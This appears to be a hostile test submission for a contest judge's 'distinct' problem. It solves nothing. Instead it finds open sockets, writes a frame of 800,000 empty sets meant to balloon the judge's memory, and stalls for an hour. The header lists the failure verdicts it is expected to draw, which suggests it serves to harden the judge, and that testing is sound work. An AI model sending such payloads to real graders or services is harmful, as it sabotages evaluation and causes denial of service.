# problem: distinct
# verdict: wrong_answer | runtime_error | crashed | exited | output_limit | timed_out | out_of_memory
# why: Eight hundred thousand empty sets: five bytes each on the way, two hundred in the judge.
# unsafe: true
# limits: tight
import os
import stat
import struct
import time


def distinct(numbers):
    count = 800_000
    body = b"l" + struct.pack("<I", count) + b"S\x00\x00\x00\x00" * count
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                frame = struct.pack("<IB", len(body), ord("V")) + body
                while frame:
                    frame = frame[os.write(fd, frame):]
        except OSError:
            pass
    time.sleep(3600)
